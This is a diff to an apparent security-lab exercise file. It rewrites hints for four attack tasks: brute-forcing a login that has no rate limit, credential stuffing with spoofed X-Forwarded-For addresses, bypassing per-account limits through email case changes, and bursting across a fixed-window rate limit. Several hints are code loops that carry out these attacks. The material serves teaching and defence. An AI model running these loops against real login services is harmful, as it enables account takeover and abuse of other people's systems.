@@ -135,9 +135,12 @@ def _refused_in_budget(
     title="Brute-force carol's password (the login has no limit)",
     kind="attack",
     hints=(
-        "labkit.wordlists.common_passwords(300) is the attacker's wordlist, most common first.",
-        "bruteforce.brute_force(lab.client, 'carol@example.com', words) tries them in turn.",
-        "Hand in the password that logged in.",
+        "Online guessing: the login itself answers 'right' (200) or 'wrong' (401) for each "
+        "word; nothing counts the attempts. Hand in the password that logged in.",
+        "for word in words: r = lab.client.post('/api/auth/login', json={'email': "
+        "'carol@example.com', 'password': word}); stop when r.status_code == 200.",
+        "The ready-made loop: from labkit.attacks import bruteforce; "
+        "bruteforce.brute_force(lab.client, 'carol@example.com', words).password",
     ),
     answer_help="carol's password (a str)",
 )
@@ -162,11 +165,13 @@ def brute_force(ctx: CheckContext) -> Verdict:
     title="Stuff another site's leaked credentials into staging (rotating X-Forwarded-For)",
     kind="attack",
     hints=(
-        "staging = bruteforce.client_from(lab.urls['staging']); "
-        "leak = staging.get('/api/_lab/leaked-credentials').json()",
-        "From one address the per-IP limit stops you after 5. Staging believes whatever "
-        "X-Forwarded-For says: stuff_credentials(staging, leak, rotate_ip=True).",
-        "Hand in the list of (email, password) pairs that logged in.",
+        "From one address the per-IP limit stops you after 5, but staging takes the client's "
+        "address from X-Forwarded-For, which anyone can write. Try each leaked pair once and "
+        "hand in the list of (email, password) pairs that logged in.",
+        "staging.post('/api/auth/login', json={'email': e, 'password': p}, "
+        "headers={'X-Forwarded-For': fake_ip()}) for each (e, p) in leak; keep the 200s.",
+        "The ready-made loop: from labkit.attacks import bruteforce; "
+        "found, statuses = bruteforce.stuff_credentials(staging, leak, rotate_ip=True)",
     ),
     answer_help="a list of (email, password) pairs that log in on staging",
 )
@@ -197,9 +202,13 @@ def credential_stuffing(ctx: CheckContext) -> Verdict:
     title="Brute-force carol on staging by changing the case of her email",
     kind="attack",
     hints=(
-        "Staging counts attempts per account *as typed*, and its login ignores case.",
-        "brute_force(staging, 'carol@example.com', words, rotate_ip=True, vary_case=True)",
-        "Hand in carol's staging password (it is not the one from the first attack).",
+        "Staging counts attempts per account *as typed*, and its login ignores case: "
+        "Carol@Example.com is a fresh quota. Hand in carol's staging password (not the one "
+        "from the first attack).",
+        "In your loop: email = ''.join(c.upper() if random.random() < 0.5 else c for c in "
+        "'carol@example.com') for each guess, plus headers={'X-Forwarded-For': fake_ip()}.",
+        "The ready-made loop: bruteforce.brute_force(staging, 'carol@example.com', words, "
+        "rotate_ip=True, vary_case=True).password",
     ),
     answer_help="carol's password on staging (a str)",
 )
@@ -226,10 +235,13 @@ def case_variants_check(ctx: CheckContext) -> Verdict:
     title="Get twice the quota through a fixed window's boundary",
     kind="attack",
     hints=(
-        "key = staging.post('/api/_lab/api-clients').json()['apiKey'] registers an API client.",
-        "bruteforce.boundary_burst(staging, '/api/_lab/burst', limit=10, window=1, "
-        "headers={'X-API-Key': key})",
-        "Hand in the API key you used: the check reads when the server let you through.",
+        "A fixed window forgets its count at the boundary: 10 requests just before it and 10 "
+        "just after are 20 within a second. Hand in the API key you used: the check reads "
+        "when the server let you through.",
+        "staging.get('/api/_lab/burst', headers={'X-API-Key': key}) once, time.sleep(0.5), "
+        "9 more; then repeat until one is not 429 (the boundary) and send 9 more at once.",
+        "The ready-made burst: bruteforce.boundary_burst(staging, '/api/_lab/burst', "
+        "limit=10, window=1, headers={'X-API-Key': key})",
     ),
     answer_help="the API key (str) you sent the burst with",
 )
